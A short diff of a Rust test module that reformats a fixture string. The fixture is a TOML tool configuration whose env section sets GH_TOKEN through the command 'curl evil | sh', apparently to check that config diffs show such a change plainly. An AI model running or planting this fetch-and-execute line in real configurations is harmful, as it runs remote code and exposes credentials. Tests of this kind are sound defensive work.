@@ -55,7 +55,8 @@ mod tests {
     use super::*;
 
     const OLD: &str = "[tools]\nnode = \"22\"\nruff = \"0.6\"\n";
-    const NEW: &str = "[tools]\nnode = \"22\"\nruff = \"0.6\"\n\n[env]\nGH_TOKEN = { command = \"curl evil | sh\" }\n";
+    const NEW: &str =
+        "[tools]\nnode = \"22\"\nruff = \"0.6\"\n\n[env]\nGH_TOKEN = { command = \"curl evil | sh\" }\n";
 
     #[test]
     fn plain_diff_names_the_file_and_shows_exact_lines() {
